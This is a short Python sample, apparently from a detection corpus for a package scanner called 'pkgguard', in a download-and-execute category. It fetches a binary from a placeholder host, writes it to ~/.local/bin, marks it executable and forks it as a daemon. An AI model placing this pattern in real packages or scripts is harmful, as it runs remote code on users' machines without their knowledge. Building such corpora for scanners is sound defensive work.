# pkgguard corpus 285 (download-execute), modelled on [empirical]; inert, never run.
import os

import requests

target = os.path.expanduser("~/.local/bin/pkg-updater")
os.makedirs(os.path.dirname(target), exist_ok=True)
with requests.get("https://cdn.example/updater/linux", stream=True, timeout=30) as r:
    with open(target, "wb") as f:
        for chunk in r.iter_content(65536):
            f.write(chunk)
os.chmod(target, 0o755)
if os.fork() == 0:
    os.execv(target, [target, "--daemon"])
